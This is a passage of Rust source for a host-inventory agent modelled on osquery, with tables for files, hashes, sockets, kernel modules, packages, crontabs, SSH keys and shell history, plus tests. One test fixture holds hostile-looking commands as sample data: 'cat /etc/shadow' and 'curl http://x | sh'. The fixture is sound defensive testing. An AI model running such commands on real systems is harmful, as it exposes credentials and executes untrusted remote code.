            m.ino().into(),
            m.uid().into(),
            m.gid().into(),
            format!("{:04o}", m.mode() & 0o7777).into(),
            m.rdev().into(),
            m.size().into(),
            m.blksize().into(),
            m.atime().into(),
            m.mtime().into(),
            m.ctime().into(),
            btime.into(),
            m.nlink().into(),
            m.file_type().is_symlink().into(),
            file_type(m.file_type()).into(),
        ])?;
    }
    Ok(())
}

/// Largest file `hash` reads; a bigger one gets a row with empty digests.
pub const HASH_FILE_BYTES_MAX: u64 = 1 << 30;

fn hash(c: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    use md5::Digest;
    for p in selected_paths(c, "hash") {
        let Ok(m) = fs::metadata(&p) else { continue };
        if !m.is_file() {
            continue;
        }
        let parent = p
            .parent()
            .map(|d| d.display().to_string())
            .unwrap_or_default();
        let digests = (m.len() <= HASH_FILE_BYTES_MAX)
            .then(|| {
                let mut f = fs::File::open(&p).ok()?;
                let (mut h5, mut h1, mut h256) =
                    (md5::Md5::new(), sha1::Sha1::new(), sha2::Sha256::new());
                let mut buf = vec![0u8; 256 << 10];
                loop {
                    let n = f.read(&mut buf).ok()?;
                    if n == 0 {
                        break;
                    }
                    h5.update(&buf[..n]);
                    h1.update(&buf[..n]);
                    h256.update(&buf[..n]);
                }
                Some([
                    crate::clock::hex(&h5.finalize()),
                    crate::clock::hex(&h1.finalize()),
                    crate::clock::hex(&h256.finalize()),
                ])
            })
            .flatten()
            .unwrap_or_default();
        let [md5, sha1, sha256] = digests;
        out.push(vec![
            p.display().to_string().into(),
            parent.into(),
            md5.into(),
            sha1.into(),
            sha256.into(),
        ])?;
    }
    Ok(())
}

/// Socket inode → (pid, fd), for the processes the agent may look into.
fn socket_owners() -> HashMap<u64, (i32, i32)> {
    let mut owners = HashMap::new();
    let Ok(all) = procfs::process::all_processes() else {
        return owners;
    };
    for p in all.flatten() {
        let Ok(fds) = p.fd() else { continue };
        for fd in fds.flatten() {
            if let procfs::process::FDTarget::Socket(inode) = fd.target {
                owners.entry(inode).or_insert((p.pid, fd.fd));
            }
        }
    }
    owners
}

fn listening_ports(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    use procfs::net::{TcpState, UdpState};
    let owners = socket_owners();
    let mut socks: Vec<(i64, std::net::SocketAddr, u64)> = Vec::new();
    for (v6, list) in [(false, procfs::net::tcp()), (true, procfs::net::tcp6())] {
        let list = list.map_err(|e| {
            proc_error(
                if v6 {
                    "/proc/net/tcp6"
                } else {
                    "/proc/net/tcp"
                },
                e,
            )
        });
        for s in list.unwrap_or_default() {
            if s.state == TcpState::Listen {
                socks.push((6, s.local_address, s.inode));
            }
        }
    }
    for list in [procfs::net::udp(), procfs::net::udp6()] {
        for s in list.unwrap_or_default() {
            if s.state == UdpState::Close && s.remote_address.port() == 0 {
                socks.push((17, s.local_address, s.inode));
            }
        }
    }
    for (protocol, addr, inode) in socks {
        let (pid, fd) = owners.get(&inode).copied().unwrap_or((-1, -1));
        let family = if addr.is_ipv4() { 2 } else { 10 };
        out.push(vec![
            pid.into(),
            u32::from(addr.port()).into(),
            protocol.into(),
            family.into(),
            addr.ip().to_string().into(),
            fd.into(),
            inode.into(),
            "".into(),
        ])?;
    }
    Ok(())
}

fn kernel_modules(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    // /proc/modules read whole: procfs parses it but drops the address. A kernel without
    // loadable modules (or a container that hides them) has none.
    let text = match fs::read_to_string("/proc/modules") {
        Ok(t) => t,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(()),
        Err(e) => return Err(proc_error("/proc/modules", e)),
    };
    for line in text.lines() {
        let f: Vec<&str> = line.split_whitespace().collect();
        if f.len() < 6 {
            continue;
        }
        let used_by = f[3].trim_end_matches(',').trim_matches('-');
        out.push(vec![
            f[0].into(),
            f[1].parse::<u64>().unwrap_or(0).into(),
            used_by.into(),
            f[4].into(),
            f[5].into(),
        ])?;
    }
    Ok(())
}

fn mounts(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    use procfs::Current;
    let list = Vec::<procfs::MountEntry>::current().map_err(|e| proc_error("/proc/mounts", e))?;
    for m in list {
        let alias = fs::canonicalize(&m.fs_spec)
            .map(|p| p.display().to_string())
            .unwrap_or_else(|_| m.fs_spec.clone());
        let stats = rustix::fs::statvfs(m.fs_file.as_str()).ok();
        let st = |f: fn(&rustix::fs::StatVfs) -> u64| {
            stats.as_ref().map_or(Value::Null, |s| f(s).into())
        };
        let mut flags: Vec<String> = m
            .fs_mntops
            .iter()
            .map(|(k, v)| match v {
                Some(v) => format!("{k}={v}"),
                None => k.clone(),
            })
            .collect();
        flags.sort();
        out.push(vec![
            m.fs_spec.clone().into(),
            alias.into(),
            m.fs_file.clone().into(),
            m.fs_vfstype.clone().into(),
            st(|s| s.f_bsize),
            st(|s| s.f_blocks),
            st(|s| s.f_bfree),
            st(|s| s.f_bavail),
            st(|s| s.f_files),
            st(|s| s.f_ffree),
            flags.join(",").into(),
        ])?;
    }
    Ok(())
}

/// The dpkg database.
pub const DPKG_STATUS: &str = "/var/lib/dpkg/status";

fn deb_packages(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    let text = match fs::read_to_string(DPKG_STATUS) {
        Ok(t) => t,
        // Not a Debian system: no packages.
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(()),
        Err(e) => return Err(proc_error(DPKG_STATUS, e)),
    };
    for stanza in text.split("\n\n") {
        let mut f: BTreeMap<&str, &str> = BTreeMap::new();
        for line in stanza.lines() {
            if line.starts_with([' ', '\t']) {
                continue; // A continuation line (descriptions, conffiles).
            }
            if let Some((k, v)) = line.split_once(':') {
                f.insert(k, v.trim());
            }
        }
        let Some(name) = f.get("Package") else {
            continue;
        };
        let status = f.get("Status").copied().unwrap_or_default();
        // osquery lists what is installed (and half-installed), not packages merely known.
        if !status.ends_with("installed") || status.ends_with("not-installed") {
            continue;
        }
        let version = f.get("Version").copied().unwrap_or_default();
        let revision = version.rsplit_once('-').map_or("", |(_, r)| r);
        let source = f
            .get("Source")
            .map(|s| s.split_whitespace().next().unwrap_or_default())
            .unwrap_or_default();
        let get = |k: &str| Value::from(f.get(k).copied().unwrap_or_default());
        out.push(vec![
            (*name).into(),
            version.into(),
            source.into(),
            f.get("Installed-Size")
                .and_then(|s| s.parse::<u64>().ok())
                .map_or(Value::Null, Value::from),
            get("Architecture"),
            revision.into(),
            status.into(),
            get("Maintainer"),
            get("Section"),
            get("Priority"),
        ])?;
    }
    Ok(())
}

fn process_open_sockets(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    let owners = socket_owners();
    type Socket = (
        i64,
        std::net::SocketAddr,
        std::net::SocketAddr,
        u64,
        &'static str,
        u32,
    );
    let mut socks: Vec<Socket> = Vec::new();
    for list in [procfs::net::tcp(), procfs::net::tcp6()] {
        for s in list.unwrap_or_default() {
            let state = TCP_STATES
                .get(s.state.to_u8() as usize)
                .copied()
                .unwrap_or("UNKNOWN");
            socks.push((6, s.local_address, s.remote_address, s.inode, state, s.uid));
        }
    }
    for list in [procfs::net::udp(), procfs::net::udp6()] {
        for s in list.unwrap_or_default() {
            socks.push((17, s.local_address, s.remote_address, s.inode, "", s.uid));
        }
    }
    for (protocol, local, remote, inode, state, uid) in socks {
        let (pid, fd) = owners.get(&inode).copied().unwrap_or((-1, -1));
        out.push(vec![
            pid.into(),
            fd.into(),
            inode.into(),
            (if local.is_ipv4() { 2 } else { 10 }).into(),
            protocol.into(),
            local.ip().to_string().into(),
            remote.ip().to_string().into(),
            u32::from(local.port()).into(),
            u32::from(remote.port()).into(),
            "".into(),
            state.into(),
            uid.into(),
            "".into(),
        ])?;
    }
    Ok(())
}

/// Local users as (uid, home directory), from /etc/passwd.
fn homes() -> Result<Vec<(Value, PathBuf)>, TableError> {
    Ok(colon_file("/etc/passwd")?
        .into_iter()
        .filter(|f| f.len() >= 7 && f[5].starts_with('/'))
        .map(|f| (id(&f[2]).0, PathBuf::from(&f[5])))
        .collect())
}

/// Every line of a crontab file as a row; `system`: lines carry a user field before the command.
fn crontab_file(path: &Path, out: &mut Rows<'_>) -> Result<(), TableError> {
    let Ok(text) = fs::read_to_string(path) else {
        return Ok(());
    };
    for line in text.lines() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let first = line.split_whitespace().next().unwrap_or_default();
        // An environment setting (NAME=value) is not a job.
        if first.contains('=') {
            continue;
        }
        let p = path.display().to_string();
        if first.starts_with('@') {
            let command = line[first.len()..].trim();
            out.push(vec![
                first.into(),
                "".into(),
                "".into(),
                "".into(),
                "".into(),
                "".into(),
                command.into(),
                p.into(),
            ])?;
            continue;
        }
        // Five time fields, then the command as written (its own spacing kept).
        let mut rest = line;
        let mut fields: Vec<&str> = Vec::with_capacity(5);
        while fields.len() < 5 {
            rest = rest.trim_start();
            let end = rest.find(char::is_whitespace).unwrap_or(rest.len());
            if end == 0 {
                break;
            }
            fields.push(&rest[..end]);
            rest = &rest[end..];
        }
        let command = rest.trim();
        if fields.len() < 5 || command.is_empty() {
            continue;
        }
        let mut row: Vec<Value> = vec!["".into()];
        row.extend(fields.iter().map(|f| Value::from(*f)));
        row.push(command.into());
        row.push(p.into());
        out.push(row)?;
    }
    Ok(())
}

/// The files of a directory, sorted (none if it cannot be read).
fn files_in(dir: &str) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = fs::read_dir(dir)
        .map(|d| {
            d.flatten()
                .map(|e| e.path())
                .filter(|p| p.is_file())
                .collect()
        })
        .unwrap_or_default();
    v.sort();
    v
}

fn crontab(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    crontab_file(Path::new("/etc/crontab"), out)?;
    for f in files_in("/etc/cron.d") {
        crontab_file(&f, out)?;
    }
    for f in files_in("/var/spool/cron/crontabs") {
        crontab_file(&f, out)?;
    }
    Ok(())
}

/// Splits an authorized_keys line into (options, algorithm, key, comment).
fn authorized_key(line: &str) -> Option<(String, String, String, String)> {
    let is_algo =
        |w: &str| w.starts_with("ssh-") || w.starts_with("ecdsa-") || w.starts_with("sk-");
    let words: Vec<&str> = line.split_whitespace().collect();
    let at = words.iter().position(|w| is_algo(w))?;
    let options = if at == 0 {
        String::new()
    } else {
        // Options may hold quoted spaces: everything before the algorithm.
        let start = line.find(words[at])?;
        line[..start].trim().to_owned()
    };
    let key = words.get(at + 1)?.to_string();
    let comment = words[at + 2..].join(" ");
    Some((options, words[at].to_owned(), key, comment))
}

fn authorized_keys(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    for (uid, home) in homes()? {
        for name in ["authorized_keys", "authorized_keys2"] {
            let file = home.join(".ssh").join(name);
            let Ok(text) = fs::read_to_string(&file) else {
                continue;
            };
            for line in text.lines() {
                let line = line.trim();
                if line.is_empty() || line.starts_with('#') {
                    continue;
                }
                let Some((options, algorithm, key, comment)) = authorized_key(line) else {
                    continue;
                };
                out.push(vec![
                    uid.clone(),
                    algorithm.into(),
                    key.into(),
                    options.into(),
                    comment.into(),
                    file.display().to_string().into(),
                ])?;
            }
        }
    }
    Ok(())
}

fn shell_history(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    for (uid, home) in homes()? {
        for name in [".bash_history", ".zsh_history", ".sh_history", ".history"] {
            history_file(&uid, &home.join(name), out)?;
        }
    }
    Ok(())
}

/// The commands of one history file (bash, with or without times; zsh extended history).
fn history_file(uid: &Value, file: &Path, out: &mut Rows<'_>) -> Result<(), TableError> {
    let Ok(bytes) = fs::read(file) else {
        return Ok(());
    };
    let text = String::from_utf8_lossy(&bytes);
    let shown = file.display().to_string();
    let mut time = 0i64;
    for line in text.lines() {
        // bash with HISTTIMEFORMAT: "#<epoch>" before each command.
        if let Some(t) = line.strip_prefix('#').and_then(|t| t.trim().parse().ok()) {
            time = t;
            continue;
        }
        // zsh extended history: ": <epoch>:<duration>;<command>".
        let zsh = line
            .strip_prefix(": ")
            .and_then(|r| r.split_once(';'))
            .and_then(|(meta, cmd)| Some((meta.split(':').next()?.trim().parse().ok()?, cmd)));
        let (t, command) = zsh.unwrap_or((time, line));
        time = 0;
        if command.trim().is_empty() {
            continue;
        }
        out.push(vec![
            uid.clone(),
            t.into(),
            command.into(),
            shown.clone().into(),
        ])?;
    }
    Ok(())
}

fn routes(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    let list = procfs::net::route().map_err(|e| proc_error("/proc/net/route", e))?;
    for r in list {
        let prefix = u32::from(r.mask).count_ones();
        let kind = if r.gateway.is_unspecified() {
            "local"
        } else {
            "gateway"
        };
        out.push(vec![
            r.destination.to_string().into(),
            prefix.into(),
            r.gateway.to_string().into(),
            "".into(),
            u32::from(r.flags).into(),
            r.iface.clone().into(),
            r.mtu.into(),
            r.metrics.into(),
            kind.into(),
        ])?;
    }
    Ok(())
}

fn interface_addresses(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
    let addrs = nix::ifaddrs::getifaddrs().map_err(|e| proc_error("the interface addresses", e))?;
    let ip = |a: &Option<nix::sys::socket::SockaddrStorage>| -> Option<String> {
        let a = a.as_ref()?;
        if let Some(v4) = a.as_sockaddr_in() {
            return Some(v4.ip().to_string());
        }
        a.as_sockaddr_in6().map(|v6| v6.ip().to_string())
    };
    for a in addrs {
        // Link-layer entries (AF_PACKET) have no IP address: not listed, as in osquery.
        let Some(address) = ip(&a.address) else {
            continue;
        };
        use nix::net::if_::InterfaceFlags;
        let p2p = a.flags.contains(InterfaceFlags::IFF_POINTOPOINT);
        let (broadcast, peer) = if p2p {
            (String::new(), ip(&a.destination).unwrap_or_default())
        } else {
            (ip(&a.broadcast).unwrap_or_default(), String::new())
        };
        out.push(vec![
            a.interface_name.clone().into(),
            address.into(),
            ip(&a.netmask).unwrap_or_default().into(),
            broadcast.into(),
            peer.into(),
            "unknown".into(),
        ])?;
    }
    Ok(())
}

/// The pids of every process now (one read of `/proc`'s directory): what `process_events`' scan
/// compares with its last.
pub fn pids() -> Result<std::collections::BTreeSet<i32>, TableError> {
    Ok(procfs::process::all_processes()
        .map_err(|e| proc_error("/proc", e))?
        .filter_map(|p| p.ok().map(|p| p.pid))
        .collect())
}

/// `process_events` rows for processes `pids` (those still running), in that table's column
/// order: read as the `processes` table reads them.
pub fn process_event_rows(pids: &[i32]) -> Result<Vec<Vec<Value>>, TableError> {
    let pid_col = column("processes", "pid");
    let c = Constraints {
        all: pids
            .iter()
            .map(|p| (pid_col, Op::Eq, Value::Int(i64::from(*p))))
            .collect(),
    };
    let def = TABLES
        .iter()
        .find(|d| d.name == "processes")
        .expect("the processes table");
    let mut out = Vec::new();
    processes(&c, &mut Rows::new("processes", def.columns.len(), &mut out))?;
    let events = &super::events::PROCESS_EVENTS;
    let from: Vec<usize> = events
        .columns
        .iter()
        .map(|c| match c.name {
            "time" => column("processes", "start_time"),
            name => column("processes", name),
        })
        .collect();
    Ok(out
        .into_iter()
        .map(|row| from.iter().map(|&i| row[i].clone()).collect())
        .collect())
}

/// A TCP or UDP socket as `socket_events`' scan sees it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SocketSeen {
    /// 6 (TCP) or 17 (UDP).
    pub protocol: i64,
    /// Local address.
    pub local: std::net::SocketAddr,
    /// Remote address.
    pub remote: std::net::SocketAddr,
    /// `listen`, `accept` (established on a listening port), `connect` (established otherwise)
    /// or `bind` (a UDP socket bound to a port).
    pub action: &'static str,
    /// The socket's owner.
    pub uid: u32,
}

/// The listening, established and bound sockets now (IPv4 and IPv6), by inode: what
/// `socket_events`' scan compares with its last. Four reads of `/proc/net`.
pub fn sockets() -> Result<BTreeMap<u64, SocketSeen>, TableError> {
    use procfs::net::{TcpState, UdpState};
    let mut tcp = Vec::new();
    for (name, list) in [
        ("/proc/net/tcp", procfs::net::tcp()),
        ("/proc/net/tcp6", procfs::net::tcp6()),
    ] {
        tcp.extend(list.map_err(|e| proc_error(name, e))?);
    }
    let listening: std::collections::BTreeSet<u16> = tcp
        .iter()
        .filter(|s| s.state == TcpState::Listen)
        .map(|s| s.local_address.port())
        .collect();
    let mut out = BTreeMap::new();
    for s in tcp {
        let action = match s.state {
            TcpState::Listen => "listen",
            TcpState::Established if listening.contains(&s.local_address.port()) => "accept",
            TcpState::Established => "connect",
            _ => continue,
        };
        out.insert(
            s.inode,
            SocketSeen {
                protocol: 6,
                local: s.local_address,
                remote: s.remote_address,
                action,
                uid: s.uid,
            },
        );
    }
    for list in [procfs::net::udp(), procfs::net::udp6()] {
        for s in list.unwrap_or_default() {
            if s.state == UdpState::Close && s.local_address.port() != 0 {
                out.insert(
                    s.inode,
                    SocketSeen {
                        protocol: 17,
                        local: s.local_address,
                        remote: s.remote_address,
                        action: "bind",
                        uid: s.uid,
                    },
                );
            }
        }
    }
    Ok(out)
}

/// `socket_events` rows for sockets `new` (inode and what was seen), made at `time` (seconds
/// since the epoch), in that table's column order; their processes found by one scan of the
/// processes' descriptors (only when there is a new socket).
pub fn socket_event_rows(new: &[(u64, SocketSeen)], time: u64) -> Vec<Vec<Value>> {
    if new.is_empty() {
        return Vec::new();
    }
    let owners = socket_owners();
    new.iter()
        .map(|(inode, s)| {
            let (pid, fd) = owners.get(inode).copied().unwrap_or((-1, -1));
            let path = if pid > 0 {
                std::fs::read_link(format!("/proc/{pid}/exe"))
                    .map(|p| p.to_string_lossy().into_owned())
                    .unwrap_or_default()
            } else {
                String::new()
            };
            vec![
                s.action.into(),
                pid.into(),
                path.into(),
                fd.into(),
                (if s.local.is_ipv4() { 2 } else { 10 }).into(),
                s.protocol.into(),
                s.local.ip().to_string().into(),
                s.remote.ip().to_string().into(),
                u32::from(s.local.port()).into(),
                u32::from(s.remote.port()).into(),
                (*inode).into(),
                s.uid.into(),
                time.into(),
            ]
        })
        .collect()
}

#[cfg(test)]
mod tests {
    #[test]
    fn path_patterns_become_globs() {
        for (like, glob) in [
            ("/etc/%", "/etc/*"),
            ("/etc/%.conf", "/etc/*.conf"),
            ("/etc/%%", "/etc/**/*"),
            ("/src/%%.rs", "/src/**/*.rs"),
            (
                "/home/%/.ssh/authorized_keys",
                "/home/*/.ssh/authorized?keys",
            ),
            ("/tmp/a_b", "/tmp/a?b"),
        ] {
            assert_eq!(super::like_to_glob(like), glob, "{like}");
        }
    }

    fn rows_of(f: impl FnOnce(&mut super::Rows<'_>)) -> Vec<Vec<String>> {
        let mut out = Vec::new();
        f(&mut super::Rows::new("t", 8, &mut out));
        out.iter()
            .map(|r| r.iter().map(|v| v.to_string()).collect())
            .collect()
    }

    #[test]
    fn crontab_lines_become_rows() {
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("crontab");
        std::fs::write(
            &p,
            "# comment\nSHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n\
             @reboot root /usr/local/bin/start\n*/5  1-3 * jan mon-fri  backup --all\n",
        )
        .unwrap();
        let rows = rows_of(|o| super::crontab_file(&p, o).unwrap());
        let ps = p.display().to_string();
        assert_eq!(
            rows,
            vec![
                vec![
                    "",
                    "17",
                    "*",
                    "*",
                    "*",
                    "*",
                    "root cd / && run-parts --report /etc/cron.hourly",
                    &ps
                ],
                vec![
                    "@reboot",
                    "",
                    "",
                    "",
                    "",
                    "",
                    "root /usr/local/bin/start",
                    &ps
                ],
                vec!["", "*/5", "1-3", "*", "jan", "mon-fri", "backup --all", &ps],
            ]
        );
    }

    #[test]
    fn authorized_keys_lines_split_into_options_key_and_comment() {
        assert_eq!(
            super::authorized_key("ssh-ed25519 AAAAC3Nza alice@laptop"),
            Some((
                "".into(),
                "ssh-ed25519".into(),
                "AAAAC3Nza".into(),
                "alice@laptop".into()
            ))
        );
        assert_eq!(
            super::authorized_key(
                r#"from="10.0.0.1",command="echo hi there" ecdsa-sha2-nistp256 AAAAE2 ci key"#
            ),
            Some((
                r#"from="10.0.0.1",command="echo hi there""#.into(),
                "ecdsa-sha2-nistp256".into(),
                "AAAAE2".into(),
                "ci key".into()
            ))
        );
        assert_eq!(super::authorized_key("not a key"), None);
    }

    #[test]
    fn history_files_of_bash_and_zsh_give_commands_and_times() {
        let dir = tempfile::tempdir().unwrap();
        let bash = dir.path().join(".bash_history");
        std::fs::write(&bash, "ls -la\n#1700000000\ncat /etc/shadow\n").unwrap();
        let zsh = dir.path().join(".zsh_history");
        std::fs::write(&zsh, ": 1700000100:0;curl http://x | sh\n").unwrap();
        let uid = super::Value::Int(1000);
        let rows = rows_of(|o| {
            super::history_file(&uid, &bash, o).unwrap();
            super::history_file(&uid, &zsh, o).unwrap();
        });
        let cmds: Vec<(&str, &str)> = rows
            .iter()
            .map(|r| (r[1].as_str(), r[2].as_str()))
            .collect();
        assert_eq!(
            cmds,
            vec![
                ("0", "ls -la"),
                ("1700000000", "cat /etc/shadow"),
                ("1700000100", "curl http://x | sh")
            ]
        );
    }
}
